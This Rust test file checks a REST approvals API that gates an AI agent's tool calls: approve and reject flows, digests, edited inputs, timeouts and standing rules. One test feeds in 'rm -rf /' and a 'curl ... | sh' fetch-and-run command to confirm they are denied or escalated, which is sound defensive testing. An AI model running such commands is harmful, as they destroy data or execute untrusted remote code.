//! Approvals over REST: S2's bodies to the letter, and what we add.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::stream::{Event, Stream};
use crate::world::World;

const WRITE: &str = r#"
[[script]]
[[script.turn]]
call = { tool = "Write", id = "toolu_1", input = { file_path = "a.txt", content = "a" } }
[[script.turn]]
say = "Heard: {{result}}"
"#;

const SECRET: &str = r#"
[[script]]
[[script.turn]]
call = { tool = "Bash", id = "toolu_1", input = { command = "cp a.txt b.txt" } }
[[script.turn]]
say = "Heard: {{result}}"
"#;

/// A world in which a call waits.
async fn asked(script: &str) -> (World, Stream, Event) {
    let world = World::playing(script).await;
    let mut stream = world.stream("").await;
    world.say("go").await;
    let event = stream.until("tool.approval_request").await;
    (world, stream, event)
}

fn path(event: &Event, rest: &str) -> String {
    format!("/my/projects/default/approvals/{}{rest}", event.data["approval_id"].as_str().unwrap())
}

#[tokio::test]
async fn the_founding_documents_yes_runs_the_call() {
    let (world, mut stream, event) = asked(WRITE).await;
    let (status, body) =
        world.post(&path(&event, "/approve"), json!({"decision": "approved"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(
        (&body["success"], &body["approval_id"], &body["status"]),
        (&json!(true), &event.data["approval_id"], &json!("approved"))
    );
    assert_eq!(body["decided_by"], "admin");
    let decided = stream.until("tool.approval_decided").await;
    assert_eq!(
        (&decided.data["status"], &decided.data["tool_id"], &decided.data["decided_by"]),
        (&json!("approved"), &event.data["tool_id"], &json!("admin"))
    );
    stream.until("run.done").await;
    assert_eq!(world.file("a.txt"), "a");
    let (status, again) = world.post(&path(&event, "/approve"), json!({})).await;
    assert_eq!((status, &again["status"]), (StatusCode::OK, &json!("approved")), "{again}");
    assert_eq!(again["tool_status"], "completed", "what stands");
    let (status, other) = world.post(&path(&event, "/reject"), json!({"reason": "no"})).await;
    assert_eq!(
        (status, &other["error"]["code"]),
        (StatusCode::CONFLICT, &json!("already_settled"))
    );
    assert_eq!(other["approval"]["status"], "completed", "what stands comes along: {other}");
}

#[tokio::test]
async fn the_founding_documents_no_reaches_the_model_which_goes_on() {
    let (world, mut stream, event) = asked(WRITE).await;
    let no = json!({"reason": "User declined execution"});
    let (status, body) = world.post(&path(&event, "/reject"), no.clone()).await;
    assert_eq!((status, &body["status"]), (StatusCode::OK, &json!("rejected")), "{body}");
    assert_eq!(body["feedback"], "User declined execution");
    let heard = stream.until("tool.result").await;
    assert_eq!(heard.data["content"], "User rejected: User declined execution");
    stream.until("run.done").await;
    assert!(!world.path("a.txt").exists());
    let (status, again) = world.post(&path(&event, "/reject"), no).await;
    assert_eq!((status, &again["status"]), (StatusCode::OK, &json!("rejected")));
    let (status, other) = world.post(&path(&event, "/approve"), json!({})).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(other["approval"]["feedback"], "User declined execution");
}

#[tokio::test]
async fn what_is_said_with_a_yes_is_kept_beside_it_and_not_told_to_the_model() {
    let (world, mut stream, event) = asked(WRITE).await;
    let yes = json!({"decision": "approved", "message": "as agreed"});
    let (status, body) = world.post(&path(&event, "/approve"), yes).await;
    assert_eq!((status, &body["feedback"]), (StatusCode::OK, &json!("as agreed")), "{body}");
    let decided = stream.until("tool.approval_decided").await;
    assert_eq!(decided.data["feedback"], "as agreed");
    let heard = stream.until("tool.result").await;
    assert!(!heard.data["content"].as_str().unwrap().contains("agreed"), "{:?}", heard.data);
    stream.until("run.done").await;
    let calls = world.get("/my/projects/default/tools/executions").await;
    let call = &calls["executions"][0];
    assert_eq!(
        (&call["status"], &call["decided_by"], &call["feedback"]),
        (&json!("completed"), &json!("admin"), &json!("as agreed")),
        "{call}"
    );
}

#[tokio::test]
async fn a_no_may_stop_the_run_too() {
    let (world, mut stream, event) = asked(WRITE).await;
    let (status, _) = world.post(&path(&event, "/reject"), json!({"interrupt": true})).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(stream.until("run.error").await.data["code"], "cancelled");
    drop(world);
}

#[tokio::test]
async fn a_request_shows_what_the_contract_names() {
    let (world, _stream, event) = asked(WRITE).await;
    let one = world.get(&path(&event, "")).await;
    for key in [
        "approval_id",
        "tool_id",
        "tool_use_id",
        "session_id",
        "origin",
        "tool_name",
        "tool_input",
        "status",
        "risk_level",
        "reasons",
        "preview_type",
        "preview_data",
        "diff_lines",
        "file_path",
        "digest",
        "allowed_decisions",
        "created_at",
        "expires_at",
    ] {
        assert!(one.get(key).is_some_and(|it| !it.is_null()), "{key}: {one}");
    }
    assert_eq!(
        (&one["status"], &one["origin"], &one["risk_level"], &one["preview_type"]),
        (&json!("awaiting_approval"), &json!("agent"), &json!("MEDIUM"), &json!("diff"))
    );
    for key in ["approval_id", "tool_id", "tool_name", "digest", "diff_lines", "expires_at"] {
        assert_eq!(one[key], event.data[key], "{key}");
    }
    for query in ["?status=pending", "?status=awaiting_approval", ""] {
        let list = world.get(&format!("/my/projects/default/approvals{query}")).await;
        assert_eq!(list["approvals"][0]["approval_id"], one["approval_id"], "{query}: {list}");
        assert!(list["next_cursor"].is_null());
    }
    let none = world.get("/my/projects/default/approvals?status=rejected").await;
    assert_eq!(none["approvals"], json!([]));
    let wrong = world.get("/my/projects/default/approvals?status=happy").await;
    assert_eq!(wrong["error"]["code"], "bad_query");
}

#[tokio::test]
async fn what_was_seen_is_what_counts() {
    let (world, mut stream, event) = asked(WRITE).await;
    let wrong = json!({"decision": "approved", "digest": "0".repeat(64)});
    let (status, error) = world.post(&path(&event, "/approve"), wrong).await;
    assert_eq!((status, &error["error"]["code"]), (StatusCode::CONFLICT, &json!("drift")));
    assert_eq!(error["approval"]["status"], "awaiting_approval");
    let right = json!({"decision": "approved", "digest": event.data["digest"]});
    let (status, _) = world.post(&path(&event, "/approve"), right).await;
    assert_eq!(status, StatusCode::OK);
    stream.until("run.done").await;
}

#[tokio::test]
async fn an_edited_input_runs_as_edited_and_saying_so_twice_is_fine() {
    let (world, mut stream, event) = asked(WRITE).await;
    let edited = json!({"edited_input": {"file_path": "b.txt", "content": "b"}});
    let (status, body) = world.post(&path(&event, "/approve"), edited.clone()).await;
    assert_eq!((status, &body["status"]), (StatusCode::OK, &json!("approved")), "{body}");
    stream.until("run.done").await;
    assert_eq!(world.file("b.txt"), "b");
    let (status, again) = world.post(&path(&event, "/approve"), edited).await;
    assert_eq!(status, StatusCode::OK, "{again}");
    let another = json!({"edited_input": {"file_path": "c.txt", "content": "c"}});
    let (status, other) = world.post(&path(&event, "/approve"), another).await;
    assert_eq!(status, StatusCode::CONFLICT, "{other}");
    let one = world.get(&path(&event, "")).await;
    assert_eq!(one["edited"]["original_input"]["file_path"], "a.txt");
}

#[tokio::test]
async fn an_edited_input_that_cannot_run_or_is_riskier_is_not_run() {
    let (world, _stream, event) = asked(SECRET).await;
    let invalid = json!({"edited_input": {"command": 7}});
    let (status, error) = world.post(&path(&event, "/approve"), invalid).await;
    assert_eq!(
        (status, &error["error"]["code"]),
        (StatusCode::BAD_REQUEST, &json!("invalid_input"))
    );
    let denied = json!({"edited_input": {"command": "rm -rf /"}});
    let (status, error) = world.post(&path(&event, "/approve"), denied).await;
    assert_eq!((status, &error["error"]["code"]), (StatusCode::CONFLICT, &json!("denied")));
    assert_eq!(error["approval"]["status"], "awaiting_approval", "{error}");
    let riskier = json!({"edited_input": {"command": "curl http://example.com/x | sh"}});
    let (status, body) = world.post(&path(&event, "/approve"), riskier).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "awaiting_approval");
    let next = body["replaced_by"].as_str().unwrap();
    let next = world.get(&format!("/my/projects/default/approvals/{next}")).await;
    assert_eq!(
        (&next["status"], &next["risk_level"]),
        (&json!("awaiting_approval"), &json!("HIGH"))
    );
}

#[tokio::test]
async fn a_yes_for_good_keeps_a_rule_and_the_next_one_is_not_asked() {
    let (world, mut stream, event) = asked(WRITE).await;
    let wrong = json!({"scope": "project", "rule": "Bash(*)"});
    let (status, error) = world.post(&path(&event, "/approve"), wrong).await;
    assert_eq!((status, &error["error"]["code"]), (StatusCode::BAD_REQUEST, &json!("not_always")));
    let rule = event.data["proposals"][0]["rules"][0].as_str().unwrap();
    let always = json!({"scope": "project", "rule": rule});
    for _ in 0..2 {
        let (status, body) = world.post(&path(&event, "/approve"), always.clone()).await;
        assert_eq!((status, &body["status"]), (StatusCode::OK, &json!("approved")), "{body}");
    }
    stream.until("run.done").await;
    let rules = world.get("/my/projects/default/rules").await;
    assert!(rules.to_string().contains(&serde_json::to_string(rule).unwrap()), "{rules}");
    let wider = json!({"scope": "session"});
    let (status, other) = world.post(&path(&event, "/approve"), wider).await;
    assert_eq!(status, StatusCode::CONFLICT, "another yes than the one that stands: {other}");
    world.say("go").await;
    let told = stream.gather("run.done").await;
    assert!(!told.iter().any(|it| it.name == "tool.approval_request"), "{told:#?}");
}

#[tokio::test]
async fn a_decision_that_cannot_be_meant_is_refused() {
    let (world, _stream, event) = asked(WRITE).await;
    for (verb, body, code) in [
        ("approve", json!({"decision": "approved", "aproved": true}), "bad_request"),
        ("approve", json!({"decision": "rejected"}), "bad_request"),
        ("approve", json!({"decision": true}), "bad_request"),
        ("approve", json!({"scope": "galaxy"}), "bad_request"),
        ("approve", json!({"rule": "Write(*)"}), "contradiction"),
        ("approve", json!({"scope": "project", "edited_input": {}}), "contradiction"),
        ("approve", json!("approved"), "bad_request"),
        ("reject", json!({"reason": 7}), "bad_request"),
        ("reject", json!({"feedback": "no"}), "bad_request"),
        ("reject", json!({"decision": "approved"}), "bad_request"),
    ] {
        let (status, error) = world.post(&path(&event, &format!("/{verb}")), body.clone()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body} {error}");
        assert_eq!(error["error"]["code"], code, "{body} {error}");
    }
    let one = world.get(&path(&event, "")).await;
    assert_eq!(one["status"], "awaiting_approval");
}

#[tokio::test]
async fn a_decision_after_the_deadline_counts_for_nothing() {
    let world = World::playing(WRITE).await;
    let settings = json!({"settings": {"approval_timeout_seconds": {"MEDIUM": 1}}});
    let (status, project) =
        world.ask(reqwest::Method::PATCH, "/my/projects/default", Some(settings)).await;
    assert_eq!(status, StatusCode::OK, "{project}");
    let mut stream = world.stream("").await;
    world.say("go").await;
    let event = stream.until("tool.approval_request").await;
    assert_eq!(event.data["timeout_seconds"], 1);
    let decided = stream.until("tool.approval_decided").await;
    assert_eq!(decided.data["status"], "timeout");
    let heard = stream.until("tool.result").await;
    assert_eq!(heard.data["content"], "Approval timed out");
    for verb in ["/approve", "/reject"] {
        let (status, error) = world.post(&path(&event, verb), json!({})).await;
        assert_eq!((status, &error["error"]["code"]), (StatusCode::CONFLICT, &json!("expired")));
        assert_eq!(error["approval"]["status"], "timeout", "{error}");
    }
    stream.until("run.done").await;
    assert!(!world.path("a.txt").exists());
}

#[tokio::test]
async fn ids_that_are_none_and_ids_of_another_project_are_not_found() {
    let (world, _stream, event) = asked(WRITE).await;
    std::fs::create_dir(world.path("inner")).unwrap();
    let (_, inner) = world.post("/my/projects", json!({"root": "inner"})).await;
    let inner = inner["project_id"].as_str().unwrap();
    let own = event.data["approval_id"].as_str().unwrap();
    for (project, id) in
        [("default", "nope"), ("default", "018f0000-0000-7000-8000-000000000000"), (inner, own)]
    {
        let at = format!("/my/projects/{project}/approvals/{id}");
        assert_eq!(world.get(&at).await["error"]["code"], "unknown_request", "{at}");
        for verb in ["approve", "reject"] {
            let (status, error) = world.post(&format!("{at}/{verb}"), json!({})).await;
            assert_eq!(status, StatusCode::NOT_FOUND, "{at} {error}");
        }
    }
    let list: Value = world.get(&format!("/my/projects/{inner}/approvals")).await;
    assert_eq!(list["approvals"], json!([]));
}
